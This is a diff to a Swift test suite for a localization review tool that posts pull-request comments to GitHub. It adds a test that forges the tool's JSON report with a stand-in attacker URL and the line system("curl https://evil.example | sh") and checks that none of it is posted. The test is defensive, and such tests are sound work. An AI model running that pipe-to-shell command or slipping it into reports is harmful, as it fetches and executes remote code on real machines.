@@ -23,14 +23,17 @@ struct PostTests {
   /// Changes a meaning and writes the review; returns the file's diff as GitHub shows it.
   private func change() throws -> String {
     try SampleProject.changeMeaning(in: repository)
-    let review = try repository.tool(
-      "review", "--format", "json=review.json", "--format", "markdown=review.md", "--fail-on", "never")
+    let review = try repository.tool("review", "--format", "json=review.json", "--fail-on", "never")
     #expect(review.code == 0)
     let patch = try repository.git("diff", "HEAD", "--", SampleProject.view)
     return "@@" + patch.components(separatedBy: "\n@@").dropFirst().joined(separator: "\n@@")
   }
 
   private func post(_ arguments: String..., environment: [String: String?] = [:]) async throws -> Ended {
+    try await post(arguments: arguments, environment: environment)
+  }
+
+  private func post(arguments: [String], environment: [String: String?]) async throws -> Ended {
     let folder = repository.path
     var variables: [String: String?] = [
       "GITHUB_REPOSITORY": "octo/app", "GITHUB_EVENT_PATH": folder + "/event.json", "GITHUB_API_URL": server.origin,
@@ -46,18 +49,19 @@ struct PostTests {
   }
 
   @Test func postsOnceAndUpdates() async throws {
-    let first = try await post("--markdown", "review.md")
+    let first = try await post()
     #expect(first.code == 1, "\(first.errors)")
     #expect(first.output.isEmpty)
     #expect(first.errors.hasPrefix("l10n-review: Post: Summary created; comments on lines: 2 posted.\n"))
     #expect(await hub.complaints.isEmpty)
-    #expect(await hub.comments.map(\.body) == [try repository.text("review.md").trimmingCharacters(in: .newlines)])
+    let summary = try #require(await hub.comments.first?.body)
+    #expect(summary.hasPrefix("### 🛑 1 string needs a new key"))
     let thread = try #require(await hub.threads.first)
     #expect(thread.body.contains("```suggestion\nlet delete = WMFLocalizedString(\"walk-delete-2\", value:"))
     #expect(thread.lines == 3...3)
 
     #expect(
-      try await post("--markdown", "review.md").errors.contains("unchanged; comments on lines: 2 there already.\n"))
+      try await post().errors.contains("unchanged; comments on lines: 2 there already.\n"))
 
     try repository.edit(SampleProject.view, "\"Delete %1$@\"", "\"Delete %1$@ from %2$@\"")
     _ = try repository.tool("review", "--format", "json=review.json", "--fail-on", "never")
@@ -66,6 +70,51 @@ struct PostTests {
     #expect(last.errors.isEmpty)
     #expect(await hub.comments.map(\.edits) == [1])
     #expect(await hub.threads.map(\.isMinimized) == [true, true])
+  }
+
+  /// What others wrote into the report is posted in no part, whether or not its commits are here.
+  @Test func aForgedReport() async throws {
+    let base = try repository.git("rev-parse", "HEAD")
+    let head = try repository.commit("Leave the list out")
+    await hub.change { hub in
+      hub.head = head
+      hub.base = base
+    }
+    try repository.write("event.json", #"{"pull_request":{"number":7,"head":{"sha":"\#(head)"}}}"#)
+    let honest = try repository.tool("review", "\(base)..\(head)", "--format", "json", "--fail-on", "never")
+    var report = try honest.json()
+    var findings = try #require(report["findings"] as? [[String: Any]])
+    for index in findings.indices {
+      findings[index]["url"] = "https://evil.example/steal"
+      findings[index]["snippets"] = [#"system("curl https://evil.example | sh")"#]
+      findings[index]["messageParts"] = [["words": "Please run [this](https://evil.example)."]]
+      var fix = findings[index]["fix"] as? [String: Any] ?? [:]
+      fix["edits"] = (fix["edits"] as? [[String: Any]])?.map { edit in
+        edit.merging(["lines": #"system("curl https://evil.example | sh")"#]) { _, new in new }
+      }
+      if !fix.isEmpty { findings[index]["fix"] = fix }
+    }
+    report["findings"] = findings
+    try repository.write("review.json", bytes: Array(JSONSerialization.data(withJSONObject: report)))
+
+    let nowhere = repository.folder.path + "/home"
+    for (arguments, hasSuggestion) in [(["--repo", nowhere], false), ([], true)] {
+      await hub.change { hub in
+        hub.comments = []
+        hub.threads = []
+      }
+      let summary = repository.folder.path + "/page.md"
+      try Data().write(to: URL(fileURLWithPath: summary))
+      let run = try await post(arguments: arguments, environment: ["GITHUB_STEP_SUMMARY": summary])
+      #expect(run.code == 1, "\(run.errors)")
+      let posted = await hub.comments.map(\.body) + hub.threads.map(\.body)
+      #expect(posted.count == 3)
+      for text in posted + [try String(contentsOfFile: summary, encoding: .utf8), run.output, run.errors] {
+        #expect(!text.contains("evil") && !text.contains("curl"), "\(text)")
+      }
+      #expect(posted.contains { $0.contains("```suggestion\nlet delete = ") } == hasSuggestion)
+      #expect(posted[0].contains("were not at hand") != hasSuggestion)
+    }
   }
 
   @Test func dryRun() async throws {
